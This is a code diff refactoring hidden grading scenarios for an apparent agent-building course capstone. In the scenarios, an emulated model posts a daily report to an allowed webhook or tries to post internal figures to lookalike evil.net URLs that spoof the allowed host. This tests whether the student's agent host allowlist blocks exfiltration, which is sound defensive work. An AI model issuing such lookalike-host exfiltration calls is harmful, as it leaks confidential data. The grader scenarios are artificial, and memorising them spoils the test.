@@ -16,6 +16,7 @@ from __future__ import annotations
 
 import inspect
 from datetime import datetime
+from functools import partial
 from typing import Any
 from urllib.parse import urlsplit
 
@@ -24,12 +25,11 @@ import anthropic
 from ..emulator import call, emulated_client, last_results, reply, say
 from ..events import Finished, Stopped
 from ..grading.spies import Recorder
-from ..text import in_language
 from . import english_capstone
 from .checking import Miss, Piece, Point
 from .lesson6 import NO_APPROVER, run_agent
 from .protocol import drive
-from .scenes import api_refusal, definitions, runaway_guard
+from .scenes import answered, api_refusal, blocks, definitions, runaway_guard, said
 
 __all__ = ["ALLOWED_HOSTS", "HTTP_POST", "MY_AGENT", "my_agent"]
 
@@ -61,26 +61,6 @@ def my_agent(client, user_input, send, approve=None):
 # --- the hidden scenarios ------------------------------------------------------------------------
 
 DAILY_URL = "https://hooks.example.com/daily"
-SAID = {  # the words of the request and of the scripted models, in the kernel's language
-    "ja": {
-        "ask": "日報を送って",
-        "daily": "日報: 問い合わせ 42 件、未解決 3 件",
-        "sending": "日報を送ります。",
-        "sent": "送りました。",
-        "secret": "社外秘の集計",
-        "none_sent": "どの宛先にも送れませんでした。",
-        "give_up": "あきらめます。",
-    },
-    "en": {
-        "ask": "Send the daily report",
-        "daily": "Daily report: 42 inquiries, 3 still open",
-        "sending": "I'll send the daily report.",
-        "sent": "Sent.",
-        "secret": "Internal figures, not for outside eyes",
-        "none_sent": "I couldn't send it to any of those addresses.",
-        "give_up": "I'll give up.",
-    },
-}
 LOOKALIKES = (
     "https://hooks.example.com.evil.net/daily",
     "https://hooks.example.com@evil.net/daily",
@@ -90,7 +70,7 @@ LOOKALIKES = (
 )
 
 
-_said = in_language(SAID)
+_said = partial(said, "capstone")
 
 
 def _daily() -> tuple[str, str]:
@@ -98,18 +78,14 @@ def _daily() -> tuple[str, str]:
     return DAILY_URL, _said("daily")
 
 
-def _done(request: dict) -> int:
-    return sum(1 for m in request["messages"] if m["role"] == "assistant")
-
-
 def _posts_daily(request: dict) -> Any:
     url, body = _daily()
     steps = [call("get_time"), reply(_said("sending"), call("http_post", url=url, body=body)), say(_said("sent"))]
-    return steps[min(_done(request), 2)]
+    return steps[min(answered(request), 2)]
 
 
 def _tries_lookalikes(request: dict) -> Any:
-    done = _done(request)
+    done = answered(request)
     if done < len(LOOKALIKES):
         return call("http_post", url=LOOKALIKES[done], body=_said("secret"))
     return say(_said("none_sent"))
@@ -162,13 +138,7 @@ class Trial:
     def results(self) -> list[dict]:
         """Every tool_result the model received, as dicts."""
         last = self.emulator.requests[-1]["messages"] if self.emulator.requests else []
-        return [
-            b
-            for m in last
-            if m["role"] == "user" and isinstance(m["content"], list)
-            for b in m["content"]
-            if isinstance(b, dict) and b.get("type") == "tool_result"
-        ]
+        return [b for m in last if m["role"] == "user" for b in blocks(m, "tool_result")]
 
     def defined(self) -> set[str]:
         tools = self.emulator.requests[0].get("tools", []) if self.emulator.requests else []
